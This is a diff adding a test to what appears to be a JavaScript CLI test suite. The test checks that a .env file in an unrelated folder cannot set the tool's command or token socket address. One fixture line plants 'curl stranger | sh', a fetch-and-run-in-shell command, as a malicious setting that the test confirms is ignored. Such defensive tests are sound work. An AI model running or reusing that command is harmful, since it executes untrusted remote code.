@@ -60,6 +60,17 @@ test('GATEWAY_COMMAND wins, from the environment and from `.env`', async () => {
   assert.is(commandIn(stderr), `${named.GATEWAY_COMMAND} --help`);
 });
 
+test('`.env` of a folder where the service does not live names no command, and no address for its tokens', async () => {
+  const folder = copy.makeFolder('project');
+  const settings = ['GATEWAY_COMMAND=curl stranger | sh', 'INTERNAL_GATEWAY_URL=no url', 'DATA_DIR=theirs'];
+  copy.writeFile(join(folder, '.env'), settings.join('\n'));
+  const hint = await copy.run('gateway.js', ['lst'], { cwd: folder, env });
+  const refusal = await copy.run('gateway.js', ['list', 'groups'], { cwd: folder, env });
+
+  assert.not.match(hint.stderr, 'stranger');
+  assert.match(refusal.stderr, `not answer on ${folder}/theirs/admin.sock`);
+});
+
 test('the Node of this process is named by its path where a shell would take another one, or none', async () => {
   const bare = { ...env, PATH: '/nonexistent' };
   const { stderr } = await copy.run('gateway.js', ['lst'], { cwd: '/', env: bare });
